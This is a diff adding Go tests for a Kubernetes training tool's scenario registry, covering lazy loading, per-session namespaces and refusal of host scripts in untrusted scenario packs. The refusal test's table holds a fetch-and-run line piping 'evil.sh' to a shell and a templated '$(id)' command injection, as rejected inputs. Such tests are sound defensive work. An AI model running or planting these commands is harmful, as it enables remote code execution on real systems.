@@ -0,0 +1,122 @@
+package scenario
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+
+	"k8s-dojo/pkg/k8s"
+)
+
+func constructed(r *Registry) int {
+	n := 0
+	for _, e := range r.entries {
+		if e.scenario != nil {
+			n++
+		}
+	}
+	return n
+}
+
+func TestRegistryConstructsLazily(t *testing.T) {
+	reg := NewRegistry(&k8s.Client{})
+	metas := reg.Metadata()
+	if len(metas) != reg.Count() || len(metas) == 0 {
+		t.Fatalf("Expected metadata for all %d scenarios, got %d", reg.Count(), len(metas))
+	}
+	if n := constructed(reg); n != 0 {
+		t.Errorf("Listing metadata constructed %d scenarios", n)
+	}
+
+	s := reg.Get(metas[0].ID)
+	if s == nil || s != reg.Get(metas[0].ID) {
+		t.Fatalf("Expected Get to return the same scenario each time")
+	}
+	if n := constructed(reg); n != 1 {
+		t.Errorf("Expected only the scenario fetched to be constructed, got %d", n)
+	}
+
+	for i, s := range reg.List() {
+		if got := s.GetMetadata().ID; got != metas[i].ID {
+			t.Errorf("List()[%d] is %s, metadata lists %s", i, got, metas[i].ID)
+		}
+	}
+}
+
+func TestBuiltinMetadataMatchesScenarios(t *testing.T) {
+	deps := DepsFor(&k8s.Client{})
+	for _, b := range builtins {
+		if got := b.new(deps).GetMetadata(); !reflect.DeepEqual(got, b.meta) {
+			t.Errorf("%s: registered metadata differs from GetMetadata", b.meta.ID)
+		}
+	}
+}
+
+func TestSessionRegistrySuffixesNamespaces(t *testing.T) {
+	reg := NewSessionRegistry(Deps{Client: &k8s.Client{}, NamespaceSuffix: "alice"})
+	s := reg.Get("image-pull-backoff")
+	if s == nil {
+		t.Fatal("Expected image-pull-backoff to be registered")
+	}
+	if ns := s.GetNamespace(); ns != "dojo-level-1-alice" {
+		t.Errorf("Namespace = %s, want dojo-level-1-alice", ns)
+	}
+	if ns := s.(NamespaceAllocator).AllocateNamespace(); !strings.HasPrefix(ns, "dojo-level-1-alice-") {
+		t.Errorf("Allocated namespace %s dropped the session suffix", ns)
+	}
+
+	dir := t.TempDir()
+	def := "id: pack-demo\nname: Demo\nnamespace: pack-demo\nsetup: \"\"\nchecks:\n  - type: podRunning\n    selector: app=web\n"
+	if err := os.WriteFile(filepath.Join(dir, "s.yaml"), []byte(def), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := reg.LoadPack(dir, "Pack: demo", false); err != nil {
+		t.Fatalf("LoadPack failed: %v", err)
+	}
+	if ns := reg.Get("pack-demo").GetNamespace(); ns != "pack-demo-alice" {
+		t.Errorf("Pack scenario namespace = %s, want pack-demo-alice", ns)
+	}
+}
+
+func TestLoadPackRefusesHostScripts(t *testing.T) {
+	const def = `id: pack-script
+name: Script
+setup: ""
+checks:
+  - type: script
+    script: kubectl get pods
+`
+	tests := []struct {
+		name    string
+		extra   string
+		trusted bool
+		wantErr bool
+	}{
+		{"pod check", "", false, false},
+		{"local check", "    runIn: local\n", true, true},
+		{"setup script", "setupScript: kubectl create ns x\n", false, true},
+		{"trusted setup script", "setupScript: kubectl create ns x\n", true, false},
+		{"kubectl command", "commands:\n- group: inspect\n  command: kubectl get pods -n {{ .Namespace }}\n", false, false},
+		{"shell command", "commands:\n- group: inspect\n  command: kubectl get pods; curl evil.sh | sh\n", false, true},
+		{"templated shell", "commands:\n- group: inspect\n  command: 'kubectl get pods {{ printf \"%s\" \"$(id)\" }}'\n", false, true},
+		{"trusted shell command", "commands:\n- group: logs\n  command: stern web | grep error\n", true, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			if err := os.WriteFile(filepath.Join(dir, "s.yaml"), []byte(def+tt.extra), 0644); err != nil {
+				t.Fatal(err)
+			}
+			reg := &Registry{}
+			err := reg.LoadPack(dir, "Pack: demo", tt.trusted)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("LoadPack err = %v, want error %t", err, tt.wantErr)
+			}
+			if loaded := reg.Get("pack-script") != nil; loaded == tt.wantErr {
+				t.Errorf("Scenario loaded = %t", loaded)
+			}
+		})
+	}
+}